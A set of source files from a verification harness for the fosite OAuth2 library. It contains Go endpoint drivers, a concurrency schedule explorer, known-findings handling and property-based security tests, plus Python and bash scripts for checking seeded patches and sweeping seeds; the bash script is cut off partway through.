		res.Refresh, _ = res.JSON["refresh_token"].(string)
		res.IDToken, _ = res.JSON["id_token"].(string)
		res.Scope, _ = res.JSON["scope"].(string)
		res.TokenType, _ = res.JSON["token_type"].(string)
		if f, ok := res.JSON["expires_in"].(float64); ok {
			res.ExpiresIn = int64(f)
		}
	}
	return res
}

// ---------------------------------------------------------------- authorization endpoint

// Consent: what the resource owner / integrator decides at the authorization endpoint.
type Consent struct {
	Session fosite.Session
	// Scopes / Audience to grant; nil => everything requested.
	Scopes   []string
	Audience []string
	// ExtraAudience is granted whether or not it was requested (an integrator's default audience).
	ExtraAudience []string
	GrantNil      bool // grant nothing at all
	// FreshSession: the integrator installs its session as it is, without carrying over the expiry instants the device
	// endpoint wrote (the library then derives the device code's expiry from the request time and the configured lifetime).
	FreshSession bool
}

type AuthzResult struct {
	Err      ErrInfo
	Phase    string // "request" | "response" | ""
	Status   int
	Header   http.Header
	Body     []byte
	Location string     // raw Location header ("" if none)
	Mode     string     // "query" | "fragment" | "form_post" | "json" | "none"
	Params   url.Values // response parameters recovered from the raw Location or the form
	FormURL  string     // form_post action
	Code     string
	Access   string
	IDToken  string
	State    string
	ErrParam string // "error" response parameter (redirected or JSON)
	// the parsed request (for oracles that want the granted values)
	Requested fosite.Arguments
	Granted   fosite.Arguments
}

func (w *World) authzFinish(rw *httptest.ResponseRecorder, res *AuthzResult) {
	res.Status = rw.Code
	res.Header = rw.Header()
	res.Body = rw.Body.Bytes()
	res.Location = rw.Header().Get("Location")
	res.Params = url.Values{}
	switch {
	case res.Location != "":
		raw := res.Location
		q, f := "", ""
		if i := strings.IndexByte(raw, '#'); i >= 0 {
			f = raw[i+1:]
			raw = raw[:i]
		}
		if i := strings.IndexByte(raw, '?'); i >= 0 {
			q = raw[i+1:]
		}
		fv, _ := url.ParseQuery(f)
		qv, _ := url.ParseQuery(q)
		// classify by where response parameters are
		isResp := func(v url.Values) bool {
			for _, k := range []string{"code", "access_token", "id_token", "error"} {
				if v.Get(k) != "" {
					return true
				}
			}
			return false
		}
		switch {
		case f != "" && isResp(fv):
			res.Mode = "fragment"
			res.Params = fv
		case isResp(qv):
			res.Mode = "query"
			res.Params = qv
		case f != "":
			res.Mode = "fragment"
			res.Params = fv
		default:
			res.Mode = "query"
			res.Params = qv
		}
	case bytes.Contains(res.Body, []byte("<form")):
		res.Mode = "form_post"
		res.FormURL, res.Params = ParseFormPost(res.Body)
	case len(res.Body) > 0 && res.Body[0] == '{':
		res.Mode = "json"
		var m map[string]interface{}
		if json.Unmarshal(res.Body, &m) == nil {
			for k, v := range m {
				res.Params.Set(k, fmt.Sprint(v))
			}
		}
	default:
		res.Mode = "none"
	}
	res.Code = res.Params.Get("code")
	res.Access = res.Params.Get("access_token")
	res.IDToken = res.Params.Get("id_token")
	res.State = res.Params.Get("state")
	res.ErrParam = res.Params.Get("error")
}

// Authorize drives the authorization endpoint (GET with query q).
func (w *World) Authorize(q url.Values, c Consent) *AuthzResult {
	return w.AuthorizeRaw("GET", q.Encode(), nil, c)
}

// AuthorizeRaw allows a raw query string and an optional POST form.
func (w *World) AuthorizeRaw(method, rawQuery string, form url.Values, c Consent) *AuthzResult {
	res := &AuthzResult{}
	var r *http.Request
	target := "https://as.example/oauth2/auth"
	if rawQuery != "" {
		target += "?" + rawQuery
	}
	if method == "POST" {
		r = httptest.NewRequest("POST", target, strings.NewReader(form.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	} else {
		r = httptest.NewRequest("GET", target, nil)
	}
	rw := httptest.NewRecorder()
	ctx := w.ctx()
	ar, err := w.P.NewAuthorizeRequest(ctx, r)
	if err != nil {
		res.Err = errInfo(err)
		res.Phase = "request"
		w.P.WriteAuthorizeError(ctx, rw, ar, err)
		w.authzFinish(rw, res)
		return res
	}
	res.Requested = append(fosite.Arguments{}, ar.GetRequestedScopes()...)
	if !c.GrantNil {
		if c.Scopes == nil {
			for _, s := range ar.GetRequestedScopes() {
				ar.GrantScope(s)
			}
		} else {
			for _, s := range c.Scopes {
				if ar.GetRequestedScopes().Has(s) {
					ar.GrantScope(s)
				}
			}
		}
		if c.Audience == nil {
			for _, a := range ar.GetRequestedAudience() {
				ar.GrantAudience(a)
			}
		} else {
			for _, a := range c.Audience {
				if ar.GetRequestedAudience().Has(a) {
					ar.GrantAudience(a)
				}
			}
		}
		for _, a := range c.ExtraAudience {
			ar.GrantAudience(a)
		}
	}
	res.Granted = append(fosite.Arguments{}, ar.GetGrantedScopes()...)
	sess := c.Session
	if sess == nil {
		sess = w.Sess("user-1")
	}
	resp, err := w.P.NewAuthorizeResponse(ctx, ar, sess)
	if err != nil {
		res.Err = errInfo(err)
		res.Phase = "response"
		w.P.WriteAuthorizeError(ctx, rw, ar, err)
		w.authzFinish(rw, res)
		return res
	}
	w.P.WriteAuthorizeResponse(ctx, rw, ar, resp)
	w.authzFinish(rw, res)
	return res
}

// ---------------------------------------------------------------- PAR

type PARResult struct {
	Err        ErrInfo
	Status     int
	Header     http.Header
	Body       []byte
	RequestURI string
	ExpiresIn  int64
}

func (w *World) PAR(form url.Values, a Auth) *PARResult {
	res := &PARResult{}
	r := postReq("/oauth2/par", form, a)
	rw := httptest.NewRecorder()
	ctx := w.ctx()
	func() {
		ar, err := w.P.NewPushedAuthorizeRequest(ctx, r)
		if err != nil {
			res.Err = errInfo(err)
			w.P.WritePushedAuthorizeError(ctx, rw, ar, err)
			return
		}
		resp, err := w.P.NewPushedAuthorizeResponse(ctx, ar, w.Sess(""))
		if err != nil {
			res.Err = errInfo(err)
			w.P.WritePushedAuthorizeError(ctx, rw, ar, err)
			return
		}
		w.P.WritePushedAuthorizeResponse(ctx, rw, ar, resp)
	}()
	res.Status = rw.Code
	res.Header = rw.Header()
	res.Body = rw.Body.Bytes()
	var m map[string]interface{}
	if json.Unmarshal(res.Body, &m) == nil {
		res.RequestURI, _ = m["request_uri"].(string)
		if f, ok := m["expires_in"].(float64); ok {
			res.ExpiresIn = int64(f)
		}
	}
	return res
}

// ---------------------------------------------------------------- revocation

type RevokeResult struct {
	Err    ErrInfo
	Status int
	Header http.Header
	Body   []byte
}

func (w *World) Revoke(form url.Values, a Auth) *RevokeResult {
	res := &RevokeResult{}
	r := postReq("/oauth2/revoke", form, a)
	rw := httptest.NewRecorder()
	ctx := w.ctx()
	err := w.P.NewRevocationRequest(ctx, r)
	res.Err = errInfo(err)
	w.P.WriteRevocationResponse(ctx, rw, err)
	res.Status = rw.Code
	res.Header = rw.Header()
	res.Body = rw.Body.Bytes()
	return res
}

// ---------------------------------------------------------------- introspection

type IntroResult struct {
	Err    ErrInfo // error returned by NewIntrospectionRequest
	Status int
	Header http.Header
	Body   []byte
	JSON   map[string]interface{}
	Active bool
}

func (w *World) IntrospectEndpoint(form url.Values, a Auth) *IntroResult {
	res := &IntroResult{}
	r := postReq("/oauth2/introspect", form, a)
	rw := httptest.NewRecorder()
	ctx := w.ctx()
	ir, err := w.P.NewIntrospectionRequest(ctx, r, NewSess(""))
	if err != nil {
		res.Err = errInfo(err)
		w.P.WriteIntrospectionError(ctx, rw, err)
	} else {
		w.P.WriteIntrospectionResponse(ctx, rw, ir)
	}
	res.Status = rw.Code
	res.Header = rw.Header()
	res.Body = rw.Body.Bytes()
	if json.Unmarshal(res.Body, &res.JSON) == nil && res.JSON != nil {
		res.Active, _ = res.JSON["active"].(bool)
	}
	return res
}

type DirectIntro struct {
	Active   bool
	Use      fosite.TokenUse
	Err      ErrInfo
	ClientID string
	Subject  string
	Scopes   []string
	Audience []string
	Exp      time.Time
	ReqID    string
	Extra    map[string]interface{}
}

// IntrospectDirect uses the IntrospectToken API (no caller credentials needed).
func (w *World) IntrospectDirect(token string, use fosite.TokenUse, scopes ...string) DirectIntro {
	tu, ar, err := w.P.IntrospectToken(context.Background(), token, use, NewSess(""), scopes...)
	if err != nil {
		return DirectIntro{Err: errInfo(err)}
	}
	d := DirectIntro{Active: true, Use: tu, ClientID: ar.GetClient().GetID(), Scopes: ar.GetGrantedScopes(), Audience: ar.GetGrantedAudience(), ReqID: ar.GetID()}
	if s := ar.GetSession(); s != nil {
		d.Subject = s.GetSubject()
		d.Exp = s.GetExpiresAt(fosite.AccessToken)
		if e, ok := s.(fosite.ExtraClaimsSession); ok {
			d.Extra = e.GetExtraClaims()
		}
	}
	return d
}

// ---------------------------------------------------------------- device flow

type DeviceResult struct {
	Err        ErrInfo
	Status     int
	Header     http.Header
	Body       []byte
	DeviceCode string
	UserCode   string
	ExpiresIn  int64
	Interval   int64
	JSON       map[string]interface{}
}

// DeviceAuth drives the device authorization endpoint.
func (w *World) DeviceAuth(form url.Values, a Auth, c Consent) *DeviceResult {
	res := &DeviceResult{}
	r := postReq("/oauth2/device/auth", form, a)
	rw := httptest.NewRecorder()
	ctx := w.ctx()
	func() {
		dr, err := w.P.NewDeviceRequest(ctx, r)
		if err != nil {
			res.Err = errInfo(err)
			w.P.WriteAccessError(ctx, rw, dr, err)
			return
		}
		// Scopes are granted when the user decides (DeviceDecide), the session is
		// attached here as integration/helper_endpoints_test.go does.
		sess := c.Session
		if sess == nil {
			sess = w.Sess("")
		}
		resp, err := w.P.NewDeviceResponse(ctx, dr, sess)
		if err != nil {
			res.Err = errInfo(err)
			w.P.WriteAccessError(ctx, rw, dr, err)
			return
		}
		w.P.WriteDeviceResponse(ctx, rw, dr, resp)
	}()
	res.Status = rw.Code
	res.Header = rw.Header()
	res.Body = rw.Body.Bytes()
	if json.Unmarshal(res.Body, &res.JSON) == nil && res.JSON != nil {
		res.DeviceCode, _ = res.JSON["device_code"].(string)
		res.UserCode, _ = res.JSON["user_code"].(string)
		if f, ok := res.JSON["expires_in"].(float64); ok {
			res.ExpiresIn = int64(f)
		}
		if f, ok := res.JSON["interval"].(float64); ok {
			res.Interval = int64(f)
		}
	}
	return res
}

// DeviceDecide is the integrator's verification page: the user enters the user
// code and accepts or rejects. On accept the requested scopes / audience (or
// the subset in c) are granted, the user's session is attached and, when
// openid is granted, the OpenID Connect session is stored under the
// device-code signature (as integration/authorize_device_grant_request_test.go
// does). Returns false when the user code is unknown or expired.
func (w *World) DeviceDecide(userCode string, accept bool, c Consent, deviceCode ...string) bool {
	ctx := w.ctx()
	usig, err := w.DevStr.UserCodeSignature(ctx, userCode)
	if err != nil {
		return false
	}
	mutate := func(d *fosite.DeviceRequest) {
		if accept {
			d.SetUserCodeState(fosite.UserCodeAccepted)
			if !c.GrantNil {
				for _, s := range d.GetRequestedScopes() {
					if c.Scopes == nil || fosite.Arguments(c.Scopes).Has(s) {
						d.GrantScope(s)
					}
				}
				for _, a := range d.GetRequestedAudience() {
					if c.Audience == nil || fosite.Arguments(c.Audience).Has(a) {
						d.GrantAudience(a)
					}
				}
			}
			if c.Session != nil {
				// keep the expiry instants the device endpoint set
				old := d.GetSession()
				ns := c.Session
				if old != nil && !c.FreshSession {
					for _, k := range []fosite.TokenType{fosite.DeviceCode, fosite.UserCode} {
						if e := old.GetExpiresAt(k); !e.IsZero() {
							ns.SetExpiresAt(k, e)
						}
					}
				}
				d.SetSession(ns)
			}
		} else {
			d.SetUserCodeState(fosite.UserCodeRejected)
		}
	}
	if w.Tx != nil {
		// validate the user code like an integrator would
		dsig, ok := w.Tx.UserDecision(usig, func(d *fosite.DeviceRequest) {
			if w.DevStr.ValidateUserCode(ctx, d, userCode) != nil {
				return
			}
			mutate(d)
		})
		if !ok {
			return false
		}
		d, err := w.Tx.GetDeviceCodeSession(ctx, dsig, nil)
		if d == nil || (err != nil && !errors.Is(err, fosite.ErrInvalidatedDeviceCode)) {
			return false
		}
		if d.GetUserCodeState() == fosite.UserCodeUnused {
			return false
		}
		if accept && d.GetGrantedScopes().Has("openid") {
			_ = w.Tx.CreateOpenIDConnectSession(ctx, dsig, d)
		}
		return true
	}
	d, err := w.Mem.GetDeviceCodeSession(ctx, usig, nil)
	if err != nil || d == nil {
		return false
	}
	if w.DevStr.ValidateUserCode(ctx, d, userCode) != nil {
		return false
	}
	dr, ok := d.(*fosite.DeviceRequest)
	if !ok {
		return false
	}
	mutate(dr)
	if accept && dr.GetGrantedScopes().Has("openid") {
		if len(deviceCode) > 0 {
			// the integrator remembers the device code (no unsynchronised access to the store's map)
			if dsig, err := w.DevStr.DeviceCodeSignature(ctx, deviceCode[0]); err == nil {
				_ = w.Mem.CreateOpenIDConnectSession(ctx, dsig, dr)
			}
			return true
		}
		// find the device-code signature: the reference store maps both signatures to the same request
		for k, v := range w.Mem.DeviceAuths {
			if v == d && k != usig {
				_ = w.Mem.CreateOpenIDConnectSession(ctx, k, dr)
			}
		}
	}
	return true
}

// ParseFormPost extracts the form action and hidden inputs of the form_post page.
func ParseFormPost(body []byte) (string, url.Values) {
	return parseFormPostHTML(body)
}

// SetSubject makes Sess an rfc7523.Session.
func (s *Sess) SetSubject(sub string) { s.Subject = sub }

// AuthorizeDeny drives the authorization endpoint up to the consent screen and
// then reports the user's refusal the way the README does
// (WriteAuthorizeError with ErrAccessDenied).
func (w *World) AuthorizeDeny(q url.Values) *AuthzResult {
	res := &AuthzResult{}
	r := httptest.NewRequest("GET", "https://as.example/oauth2/auth?"+q.Encode(), nil)
	rw := httptest.NewRecorder()
	ctx := w.ctx()
	ar, err := w.P.NewAuthorizeRequest(ctx, r)
	if err != nil {
		res.Err = errInfo(err)
		res.Phase = "request"
		w.P.WriteAuthorizeError(ctx, rw, ar, err)
		w.authzFinish(rw, res)
		return res
	}
	derr := fosite.ErrAccessDenied.WithHint("The resource owner denied the request.")
	res.Err = errInfo(derr)
	res.Phase = "consent"
	w.P.WriteAuthorizeError(ctx, rw, ar, derr)
	w.authzFinish(rw, res)
	return res
}
