package h

import (
	"fmt"
	"sync"
	"time"
)

// Sched owns the schedule of several API operations on one World at
// storage-call granularity: every storage call of an operation is a gate; only
// one operation runs at a time; the order in which gates are released is the
// schedule. Used by C15 (same assertion presented concurrently) and C19.
type Sched struct {
	w       *World
	cur     int
	events  chan schedEvent
	release []chan struct{}
	Trace   []string // "op:Method" in the order the calls were released
	Panics  []string
}

type schedEvent struct {
	op     int
	done   bool
	method string
}

// RunSchedule runs ops under the schedule produced by choose: choose(enabled)
// returns the index (into enabled) of the operation to advance next. It
// returns the trace; stuck=true if an operation did not reach its next gate
// within the watchdog time.
func RunSchedule(w *World, ops []func(), choose func(enabled []int) int) (s *Sched, stuck bool) {
	s = &Sched{w: w, events: make(chan schedEvent), release: make([]chan struct{}, len(ops))}
	for i := range ops {
		s.release[i] = make(chan struct{})
	}
	oldFault := w.Fault
	w.Fault = func(c *Call) error {
		idx := s.cur
		s.events <- schedEvent{op: idx, method: c.Method}
		<-s.release[idx]
		if oldFault != nil {
			return oldFault(c)
		}
		return nil
	}
	defer func() { w.Fault = oldFault }()
	var wg sync.WaitGroup
	for i, op := range ops {
		wg.Add(1)
		go func(i int, op func()) {
			defer wg.Done()
			<-s.release[i] // start gate
			func() {
				defer func() {
					if r := recover(); r != nil {
						s.Panics = append(s.Panics, fmt.Sprintf("op %d: %v", i, r))
					}
				}()
				op()
			}()
			s.events <- schedEvent{op: i, done: true}
		}(i, op)
	}
	finished := make([]bool, len(ops))
	atGate := make([]string, len(ops)) // method the op is waiting to perform ("" = at its start gate)
	remaining := len(ops)
	for remaining > 0 {
		var enabled []int
		for i := range ops {
			if !finished[i] {
				enabled = append(enabled, i)
			}
		}
		k := choose(enabled)
		if k < 0 || k >= len(enabled) {
			k = 0
		}
		i := enabled[k]
		s.cur = i
		if atGate[i] != "" {
			s.Trace = append(s.Trace, fmt.Sprintf("%d:%s", i, atGate[i]))
		}
		s.release[i] <- struct{}{}
		select {
		case ev := <-s.events:
			if ev.done {
				finished[ev.op] = true
				remaining--
			} else {
				atGate[ev.op] = ev.method
			}
		case <-time.After(60 * time.Second):
			return s, true
		}
	}
	wg.Wait()
	return s, false
}

// ExploreSchedules enumerates schedules depth-first (stateless: every schedule
// re-runs setup). run executes one schedule with the given chooser and reports
// the number of enabled operations at every decision point through the chooser
// it was given. Returns the number of schedules executed and whether the space
// was exhausted within maxRuns.
func ExploreSchedules(maxRuns int, run func(choose func(enabled []int) int)) (runs int, exhausted bool) {
	type frame struct{ choice, n int }
	var stack []frame
	for runs < maxRuns {
		depth := 0
		choose := func(enabled []int) int {
			if depth < len(stack) {
				c := stack[depth].choice
				depth++
				return c
			}
			stack = append(stack, frame{0, len(enabled)})
			depth++
			return 0
		}
		run(choose)
		runs++
		// the run may have used fewer decisions than the stack holds
		stack = stack[:depth]
		// backtrack
		for len(stack) > 0 {
			top := &stack[len(stack)-1]
			if top.choice+1 < top.n {
				top.choice++
				break
			}
			stack = stack[:len(stack)-1]
		}
		if len(stack) == 0 {
			return runs, true
		}
	}
	return runs, false
}
