package h

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"sync"
)

// Known findings: /verif/known_findings.json, committed, never written at run
// time. Every violation an oracle can raise carries a fingerprint naming its
// root cause. A fingerprint listed with status "known" is *activated* only if
// its deterministic probe still reproduces on the tree under test; an active
// fingerprint is excluded from the search (assertion skipped or trigger
// avoided, both counted) and reported as KNOWN-FINDING by the driver. A
// "fixed" entry suppresses nothing.

type Finding struct {
	Status      string `json:"status"` // "known" | "fixed"
	Property    string `json:"property"`
	Fingerprint string `json:"fingerprint"`
	Commit      string `json:"commit,omitempty"`
	What        string `json:"what"`
}

type FindingsFile struct {
	Findings []Finding `json:"findings"`
}

var kn struct {
	once   sync.Once
	listed map[string]Finding
	mu     sync.Mutex
	active map[string]bool
}

func loadKnown() {
	kn.once.Do(func() {
		kn.listed = map[string]Finding{}
		kn.active = map[string]bool{}
		p := os.Getenv("VERIF_KNOWN")
		if p == "" {
			p = "/verif/known_findings.json"
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return
		}
		var ff FindingsFile
		if json.Unmarshal(b, &ff) != nil {
			return
		}
		for _, f := range ff.Findings {
			if f.Status == "known" {
				kn.listed[f.Fingerprint] = f
			}
		}
	})
}

// Listed reports whether fp is in the committed file with status "known".
func Listed(fp string) bool {
	loadKnown()
	_, ok := kn.listed[fp]
	return ok
}

// Activate runs the probe of a listed known finding; when the probe still
// reproduces the finding, the fingerprint becomes active (excluded + reported).
// For a fingerprint that is not listed the probe is not run here: the
// generated search is what must find it.
func Activate(fp string, probe func() bool) bool {
	loadKnown()
	if !Listed(fp) {
		return false
	}
	ok := probe()
	kn.mu.Lock()
	kn.active[fp] = ok
	kn.mu.Unlock()
	if ok {
		recordKnownHit(fp)
	}
	return ok
}

// Excluded: fp is a listed known finding that still reproduces.
func Excluded(fp string) bool {
	loadKnown()
	kn.mu.Lock()
	defer kn.mu.Unlock()
	return kn.active[fp]
}

func knownActiveList() []string {
	loadKnown()
	kn.mu.Lock()
	defer kn.mu.Unlock()
	var l []string
	for k, v := range kn.active {
		if v {
			l = append(l, k)
		}
	}
	sort.Strings(l)
	return l
}

// TB is what both *testing.T and *rapid.T provide.
type TB interface {
	Helper()
	Fatalf(format string, args ...any)
	Logf(format string, args ...any)
}

// Violate reports a violation with root-cause fingerprint fp. If fp is an
// active known finding it is counted and the search goes on (returns true so
// the caller can resynchronise its model); otherwise the case fails.
func Violate(t TB, fp string, format string, args ...any) bool {
	t.Helper()
	msg := fmt.Sprintf(format, args...)
	if Excluded(fp) {
		recordKnownHit(fp)
		return true
	}
	recordViolation(fp, msg)
	t.Fatalf("VERIF-VIOLATION fp=%s :: %s", fp, msg)
	return false
}
