package props

import (
	"github.com/ory/fosite"
	"sort"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"verifharness/h"
)

var allFlows = []string{"code", "code", "code", "code token", "code id_token", "code id_token token", "token", "id_token token"}

// runEngine runs the history machine for one property. nontrivial decides from
// the labels of a finished history whether it counts.
func runEngine(t *testing.T, prop string, cfg EngCfg, nontrivial func(l map[string]bool) bool) {
	h.SetProperty(prop)
	selfTest(t)
	cfg.Prop = prop
	rapid.Check(t, func(rt *rapid.T) {
		e := NewEng(rt, cfg)
		defer func() {
			// record the case also when it fails (the violation itself is recorded by h.Violate)
			keys := make([]string, 0, len(e.labels))
			for k := range e.labels {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			nt := nontrivial(e.labels)
			h.Case(prop+"/"+e.digest(), nt, func() any {
				return map[string]any{"history": e.log, "classes": keys}
			})
			e.flushLabels("")
			if nt {
				h.Label("nontrivial")
			}
		}()
		e.Run()
	})
	h.MarkCompleted()
}

func anyPrefix(l map[string]bool, p string) bool {
	for k := range l {
		if strings.HasPrefix(k, p) {
			return true
		}
	}
	return false
}

func TestC01_CodeSingleUse(t *testing.T) {
	runEngine(t, "C01", EngCfg{
		Weights: map[string]int{"authorize": 4, "redeem": 6, "refresh": 4, "revoke": 1, "advance": 1, "password": 1},
		Stores:  []string{"mem", "mem", "tx"}, JWT: []bool{false, false, true}, RefreshScopeModes: []int{0, 0, 1, 2},
		Flows: allFlows,
	}, func(l map[string]bool) bool { return l["code-replay"] })
}

func TestC04_RefreshRotation(t *testing.T) {
	runEngine(t, "C04", EngCfg{
		Weights: map[string]int{"authorize": 3, "redeem": 3, "refresh": 8, "revoke": 1, "advance": 2, "password": 2, "deviceAuth": 1, "deviceDecide": 1, "devicePoll": 1},
		Stores:  []string{"mem", "mem", "tx"}, JWT: []bool{false, false, true}, RefreshScopeModes: []int{0, 0, 1},
		Flows: allFlows, ShortLivedHalf: true,
	}, func(l map[string]bool) bool { return l["refresh-replay"] && l["chain-depth>=2"] })
}

func TestC08_Revocation(t *testing.T) {
	runEngine(t, "C08", EngCfg{
		Weights: map[string]int{"authorize": 4, "redeem": 4, "refresh": 3, "revoke": 7, "advance": 1, "password": 1, "clientcreds": 1, "overlappingRefresh": 1},
		Stores:  []string{"mem", "mem", "tx"}, JWT: []bool{false, false, true}, RefreshScopeModes: []int{0, 0, 1},
		Flows: allFlows,
	}, func(l map[string]bool) bool {
		return l["revoke-live-with-live-sibling"] || ((l["revoke-foreign"] || l["revoke-unauthenticated"] || l["revoke-dead"]) && l["refresh-ok"])
	})
}

func TestC09_Introspection(t *testing.T) {
	runEngine(t, "C09", EngCfg{
		Weights: map[string]int{"authorize": 4, "redeem": 4, "refresh": 3, "revoke": 2, "advance": 2, "password": 1, "clientcreds": 1, "introspect": 8, "deviceAuth": 1, "deviceDecide": 1, "devicePoll": 1},
		Stores:  []string{"mem", "mem", "tx"}, JWT: []bool{false, false, true}, RefreshScopeModes: []int{0, 0, 1},
		Flows: allFlows, ShortLived: true,
		MutateDraw: func(rt *rapid.T, c *fosite.Config) {
			c.DisableRefreshTokenValidation = rapid.IntRange(0, 3).Draw(rt, "disableRefreshTokenValidation") == 0
		},
	}, func(l map[string]bool) bool {
		return anyPrefix(l, "introspect-caller=") && (l["refresh-ok"] || l["revoke-live"] || l["code-replay"] || l["refresh-replay"])
	})
}

func TestC05_RefreshConfinement(t *testing.T) {
	runEngine(t, "C05", EngCfg{
		Weights: map[string]int{"authorize": 4, "redeem": 4, "refresh": 7, "editClient": 3, "password": 2, "advance": 1, "deviceAuth": 1, "deviceDecide": 1, "devicePoll": 1},
		Stores:  []string{"mem", "tx"}, JWT: []bool{false, true}, RefreshScopeModes: []int{0, 1, 2},
		Flows: []string{"code", "code", "code token", "code id_token"},
	}, func(l map[string]bool) bool {
		return l["refresh-smuggle"] && l["refresh-ok"] || l["refresh-refused-after-client-edit"] || l["refresh-refused:foreign"]
	})
}

func TestC07_ExpiryHistories(t *testing.T) {
	runEngine(t, "C07", EngCfg{
		Weights: map[string]int{"authorize": 4, "redeem": 4, "refresh": 4, "advance": 6, "password": 1, "clientcreds": 1, "deviceAuth": 2, "deviceDecide": 2, "devicePoll": 3, "parPush": 2, "parUse": 3},
		Stores:  []string{"mem", "tx"}, JWT: []bool{false, true}, RefreshScopeModes: []int{0},
		Flows: allFlows, ShortLived: true,
	}, func(l map[string]bool) bool {
		return l["advance"] && (anyPrefix(l, "redeem-refused:expired") || anyPrefix(l, "refresh-refused:expired") || anyPrefix(l, "device-refused:expired") || anyPrefix(l, "par-refused:expired") || l["saw-expired-token"])
	})
}

func TestC16_DeviceHistories(t *testing.T) {
	runEngine(t, "C16", EngCfg{
		Weights: map[string]int{"deviceAuth": 4, "deviceDecide": 4, "devicePoll": 8, "advance": 2, "refresh": 1},
		Stores:  []string{"mem", "tx"}, JWT: []bool{false, true}, RefreshScopeModes: []int{0, 1},
		Flows: []string{"code"}, ShortLived: true,
		MutateDraw: func(rt *rapid.T, c *fosite.Config) {
			c.UserCodeLength = rapid.SampledFrom([]int{0, 6, 8, 12}).Draw(rt, "userCodeLength")
			if rapid.Bool().Draw(rt, "customUserCodeAlphabet") {
				c.UserCodeSymbols = []rune("BCDFGHJKLMNPQRSTVWXZ")
			}
		},
	}, func(l map[string]bool) bool {
		return l["device-replay"] || (anyPrefix(l, "device-decision=") && anyPrefix(l, "device-refused:"))
	})
}

func TestC17_PARHistories(t *testing.T) {
	runEngine(t, "C17", EngCfg{
		Weights: map[string]int{"parPush": 4, "parUse": 8, "advance": 2, "redeem": 2, "authorize": 1},
		Stores:  []string{"mem", "tx"}, JWT: []bool{false}, RefreshScopeModes: []int{0},
		Flows: []string{"code"}, ShortLived: true,
		MutateDraw: func(rt *rapid.T, c *fosite.Config) {
			c.IsPushedAuthorizeEnforced = rapid.IntRange(0, 2).Draw(rt, "parEnforced") == 0
			c.PushedAuthorizeRequestURIPrefix = rapid.SampledFrom([]string{"", "", "urn:custom:par:", "https://as.example/par/"}).Draw(rt, "parPrefix")
		},
	}, func(l map[string]bool) bool {
		return anyPrefix(l, "par-refused:") || l["par-use-with-conflicting-query"] && l["par-use-ok"] || l["par-push-invalid"] || anyPrefix(l, "par-use-unknown") || anyPrefix(l, "par-use-foreign") || anyPrefix(l, "par-use-mutated")
	})
}

func TestC02_CodeBinding(t *testing.T) {
	runEngine(t, "C02", EngCfg{
		Weights: map[string]int{"authorize": 4, "redeem": 10, "advance": 2, "refresh": 1, "parPush": 1, "parUse": 2},
		Stores:  []string{"mem", "tx"}, JWT: []bool{false, true}, RefreshScopeModes: []int{0, 1},
		Flows: []string{"code", "code", "code", "code token", "code id_token"}, ShortLived: true,
	}, func(l map[string]bool) bool {
		return l["redeem-ok-after-failed-attempts"] || (anyPrefix(l, "redeem-refused:") && l["redeem-smuggle"])
	})
}
