#!/usr/bin/env python3
"""usage: seedverify.py <ID> <X>  — confirm a sub-agent's seeded change in its scratch worktree /tmp/seed/<ID>:
patch applies, library builds, the whole existing suite passes with it, the demo FAILS with the patch and PASSES without.
Prints a JSON summary. Leaves the worktree clean."""
import os, re, subprocess, sys, json, shutil
SD = os.environ.get('SEEDDIR', '/tmp/seed')
ID, X = sys.argv[1], sys.argv[2]
wt = f"{SD}/{ID}"
out = f"{SD}/{ID}.out/{X}"
env = dict(os.environ, GOFLAGS="-mod=mod", GOPROXY="off", GOSUMDB="off", GOTOOLCHAIN="local")
def sh(cmd, cwd=wt, timeout=1500):
    p = subprocess.run(cmd, shell=True, executable="/bin/bash", cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout)
    return p.returncode, (p.stdout + p.stderr)
res = {"id": ID, "change": X}
sh("git checkout -- . && git clean -fdq")
run = open(f"{out}/RUN.txt").read()
m = None
for line in run.splitlines():
    if "go test" in line and "-run" in line:
        m = line.strip()
        break
if not m:
    res["error"] = "no go test line in RUN.txt"; print(json.dumps(res)); sys.exit(1)
m = re.sub(r"^.*?(go test)", r"\1", m)
m = re.sub(r"^cd \S+ && ", "", m)
pkg = m.split()[-1]
pkgdir = os.path.normpath(os.path.join(wt, pkg.replace("./", "").rstrip("/") if pkg != "." else "."))
demo_dst = os.path.join(pkgdir, f"zz_seed_{ID.lower()}{X.lower()}_demo_test.go")
res["demo_cmd"] = m
rc, o = sh(f"git apply {out}/patch.diff")
res["applies"] = rc == 0
rc, o = sh("go build ./...")
res["builds"] = rc == 0
rc, o = sh("go test -vet=off -count=1 ./... 2>&1 | grep -v '^ok\\|no test files' ; exit ${PIPESTATUS[0]}", timeout=2400)
res["suite_passes_with_patch"] = rc == 0
if rc != 0: res["suite_output"] = o[-1500:]
os.makedirs(pkgdir, exist_ok=True)  # a demo may live in a directory of its own
shutil.copy(f"{out}/demo_test.go", demo_dst)
rc, o = sh(m)
res["demo_fails_with_patch"] = rc != 0
sh("git checkout -- .")
rc, o = sh(m)
res["demo_passes_without_patch"] = rc == 0
if rc != 0: res["demo_head_output"] = o[-1500:]
os.remove(demo_dst)
sh("git checkout -- . && git clean -fdq")
rc, o = sh("git status --porcelain")
res["worktree_clean"] = o.strip() == ""
res["confirmed"] = all(res.get(k) for k in ["applies", "builds", "suite_passes_with_patch", "demo_fails_with_patch", "demo_passes_without_patch"])
print(json.dumps(res))
