#!/bin/bash
# usage: tools/sweep.sh <name> <tier> <seed-from> <seed-to> [ID...]  — run checks on the unchanged tree at many VERIF_SEED
# values from a scratch copy of /verif (so that editing /verif meanwhile does not disturb it); prints only what is not
# silent: "seed id exit=.. VIOLATION.." lines. Scratch copy: /tmp/sweep/<name>, removed at the end.
name=$1; tier=$2; from=$3; to=$4; shift 4
ids="${@:-C01 C02 C03 C04 C05 C06 C07 C08 C09 C10 C11 C12 C13 C14 C15 C16 C17 C18 C19 C20}"
d=/tmp/sweep/$name
rm -rf $d; mkdir -p $d
rsync -a --exclude .work --exclude replays --exclude .git --exclude evidence /verif/ $d/
mkdir -p $d/evidence $d/replays
cd $d
for s in $(seq $from $to); do
  for id in $ids; do
    out=$(VERIF_SEED=$s VERIF_TIER=$tier ./check run $id 2>&1); rc=$?
    if [ $rc != 0 ] || echo "$out" | grep -q "^VIOLATION"; then
